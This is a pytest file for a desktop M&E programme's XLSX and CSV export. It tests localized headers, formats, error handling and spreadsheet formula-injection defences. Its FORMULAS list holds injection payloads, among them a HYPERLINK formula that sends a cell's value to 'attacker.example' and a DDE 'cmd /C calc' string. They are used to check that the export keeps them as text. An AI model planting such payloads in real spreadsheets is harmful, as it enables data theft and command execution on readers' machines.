"""The laptop's M&E export (issue 15): the shape an officer pivots without lookups, in the chosen language, and
text that a spreadsheet would run as a formula kept as text, in XLSX and CSV."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from score_desktop.cli import main
from score_desktop.errors import DiskFullError, ExportTargetError
from score_desktop.exchange import labels, sheets
from score_desktop.exchange.workspace_export import export_workspace
from tests.builders import (make_action_item, make_eit_member, make_enterprise, make_kpi_reading, make_observation,
                            make_visit)

FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Open report")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def programme(workspace):
    """An enterprise with two sponsors, a visit with a finding, an action, a KPI reading; one trashed visit."""
    enterprise = make_enterprise(workspace, sponsors=["Inditex", "Adidas"], province="广东")
    owner = make_eit_member(workspace, enterprise, name="赵军")
    visit = make_visit(workspace, enterprise, module="OSH", visit_type="follow_up", visit_date="2026-05-02",
                       status="final", attendees=[owner["id"]])
    finding = make_observation(workspace, visit, topic="OSH-01", rating="critical")
    action = make_action_item(workspace, visit, owner_id=owner["id"], expected_saving=1234.567)
    reading = make_kpi_reading(workspace, enterprise, value=2.0 / 3.0)
    trashed = make_visit(workspace, enterprise)
    workspace.visits.delete(trashed["id"])
    return {"enterprise": enterprise, "visit": visit, "finding": finding, "action": action, "reading": reading,
            "trashed": trashed}


def _rows(sheet) -> dict[str, dict]:
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return {row[0].value: dict(zip(headers, row)) for row in rows[1:]}


def test_sheets_and_headers_are_words_in_the_chosen_language(workspace, programme, tmp_path):
    for lang, visits, module_header, critical, follow_up in (
            ("zh_CN", "走访", "模块", "严重问题", "跟进走访"), ("es", "Visitas", "Módulo", "Crítico", "Seguimiento")):
        target = tmp_path / f"export-{lang}.xlsx"
        export_workspace(workspace, "xlsx", target, lang=lang)
        workbook = load_workbook(target)
        assert workbook.sheetnames == [labels.sheet_name(lang, key) for key in sheets.sheet_keys()]
        visit = _rows(workbook[visits])[programme["visit"]["id"]]
        assert visit[module_header].value == labels_module(lang)  # the name in words, beside its code
        assert visit[labels.column_name(lang, "module_code")].value == "OSH"
        assert visit[labels.column_name(lang, "visit_type")].value == follow_up
        finding = _rows(workbook[labels.sheet_name(lang, "observation")])[programme["finding"]["id"]]
        assert finding[labels.column_name(lang, "rating_code")].value == "critical"
        assert finding[labels.column_name(lang, "rating")].value == critical
        assert programme["trashed"]["id"] not in _rows(workbook[visits])


def labels_module(lang: str) -> str:
    return {"zh_CN": "职业安全与健康", "es": "Seguridad y salud en el trabajo"}[lang]


def test_rows_carry_what_an_officer_pivots_on_with_dates_numbers_filters_and_frozen_headers(workspace, programme,
                                                                                             tmp_path):
    target = tmp_path / "export.xlsx"
    export_workspace(workspace, "xlsx", target)
    workbook = load_workbook(target)
    reading = _rows(workbook["KPI readings"])[programme["reading"]["id"]]
    assert reading["KPI code"].value == "defect_rate" and reading["KPI"].value == "End-of-line defect rate"
    assert reading["Unit"].value == "%" and reading["Module code"].value == "QM"
    assert reading["Enterprise"].value == "广州华美服装有限公司" and reading["Province"].value == "广东"
    assert reading["Sponsors"].value == "Inditex; Adidas" and reading["Phase"].value == "Baseline"
    assert reading["Value"].value == 0.67 and reading["Value"].number_format == "#,##0.00"
    assert reading["Period start"].is_date and reading["Period start"].value == dt.datetime(2026, 10, 1)
    assert reading["Period start"].number_format == "yyyy-mm-dd"
    assert reading["Created (UTC)"].is_date and "Trainer (account)" in reading
    action = _rows(workbook["Actions"])[programme["action"]["id"]]
    assert action["Owner"].value == "赵军" and action["Expected saving"].value == 1234.57
    assert action["Due"].value == dt.datetime(2026, 12, 1) and action["Status"].value == "Open"
    visit = _rows(workbook["Visits"])[programme["visit"]["id"]]
    assert visit["Attendees"].value == "赵军"
    sponsor_rows = list(workbook["Sponsors"].iter_rows(min_row=2, values_only=True))
    sponsors = [(row[0], row[4]) for row in sponsor_rows]  # enterprise ID, sponsor: one row per pair
    assert sponsors == [(programme["enterprise"]["id"], "Inditex"), (programme["enterprise"]["id"], "Adidas")]
    for sheet in workbook.worksheets:
        headers = [cell.value for cell in sheet[1]]
        assert {"Created by", "Last changed by", "Created (UTC)", "Last changed (UTC)"} <= set(headers), sheet.title
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
        assert sheet.column_dimensions["A"].width > 0
    enterprise = _rows(workbook["Enterprises"])[programme["enterprise"]["id"]]
    assert enterprise["Women"].value == 180 and enterprise["Women"].number_format == "#,##0"
    enterprises = workbook["Enterprises"]
    assert enterprises.auto_filter.ref == f"A1:X{enterprises.max_row}"


def test_text_that_looks_like_a_formula_stays_text_in_xlsx_and_csv(workspace, tmp_path):
    enterprises = [make_enterprise(workspace, name=text, city=text) for text in FORMULAS]
    findings = {make_observation(workspace, make_visit(workspace, enterprise), text=text)["id"]: text
                for enterprise, text in zip(enterprises, FORMULAS)}
    xlsx = tmp_path / "export.xlsx"
    export_workspace(workspace, "xlsx", xlsx)
    with zipfile.ZipFile(xlsx) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in part or b"<f " in part for part in parts)  # no formula anywhere
    workbook = load_workbook(xlsx)
    rows = _rows(workbook["Enterprises"])
    for enterprise, text in zip(enterprises, FORMULAS):
        for column in ("Name", "City"):
            cell = rows[enterprise["id"]][column]
            assert cell.data_type == "s" and cell.value == text  # the trainer's text, exactly, as text
    finding_rows = _rows(workbook["Findings"])
    for finding_id, text in findings.items():
        for column in ("Text", "Enterprise"):
            cell = finding_rows[finding_id][column]
            assert cell.data_type == "s" and cell.value == text

    zipped = tmp_path / "export.zip"
    export_workspace(workspace, "csv", zipped)
    with zipfile.ZipFile(zipped) as archive:
        assert sorted(archive.namelist()) == sorted(f"{key}.csv" for key in sheets.sheet_keys())
        enterprise_rows = _csv(archive, "enterprise.csv")
        finding_csv = _csv(archive, "observation.csv")
    for enterprise, text in zip(enterprises, FORMULAS):
        for column in ("Name", "City"):
            assert enterprise_rows[enterprise["id"]][column] == "'" + text  # a leading apostrophe: text to Excel
    for finding_id, text in findings.items():
        assert finding_csv[finding_id]["Text"] == "'" + text and finding_csv[finding_id]["Enterprise"] == "'" + text


def _csv(archive: zipfile.ZipFile, name: str) -> dict[str, dict]:
    text = archive.read(name).decode("utf-8-sig")
    return {row["ID"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_csv_headers_dates_and_numbers_in_the_chosen_language(workspace, programme, tmp_path):
    zipped = tmp_path / "export.zip"
    export_workspace(workspace, "csv", zipped, lang="zh_CN")
    with zipfile.ZipFile(zipped) as archive:
        text = archive.read("kpi_reading.csv").decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text, newline="")) if r["编号"] == programme["reading"]["id"])
    assert row["期间开始"] == "2026-10-01" and row["数值"] == "0.67" and row["阶段"] == "基线"


def test_a_target_that_cannot_be_written_is_one_clear_error_and_leaves_nothing(workspace, programme, tmp_path,
                                                                               monkeypatch):
    with pytest.raises(ExportTargetError, match="its folder does not exist"):
        export_workspace(workspace, "xlsx", tmp_path / "missing" / "export.xlsx")
    with pytest.raises(ExportTargetError, match="it is a folder"):
        export_workspace(workspace, "xlsx", tmp_path)

    def full_disk(source, fmt, handle, **options):
        handle.write(b"PK half a workbook")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(sheets, "write_export", full_disk)
    with pytest.raises(DiskFullError):
        export_workspace(workspace, "xlsx", tmp_path / "export.xlsx")
    assert list(tmp_path.glob("*export*")) == []  # no half-written file that looks whole


def test_the_command_line_export(workspace, programme, tmp_path, capsys):
    folder = str(workspace.paths.root)
    target = tmp_path / "programme.xlsx"
    assert main(["export", "--workspace", folder, "--format", "xlsx", "-o", str(target), "--lang", "fr"]) == 0
    assert "Visites" in load_workbook(target, read_only=True).sheetnames
    assert main(["export", "--workspace", folder, "--format", "csv", "-o", str(tmp_path / "a.zip")]) == 0
    assert zipfile.is_zipfile(tmp_path / "a.zip")
    assert main(["export", "--workspace", folder, "--format", "xlsx", "-o", str(tmp_path / "no" / "x.xlsx")]) == 1
    assert "cannot be written" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_:
        main(["export", "--workspace", folder, "--format", "xlsx", "-o", str(target), "--lang", "de"])
    assert exit_.value.code == 2 and "invalid choice: 'de'" in capsys.readouterr().err
    assert not Path(tmp_path / "no").exists()
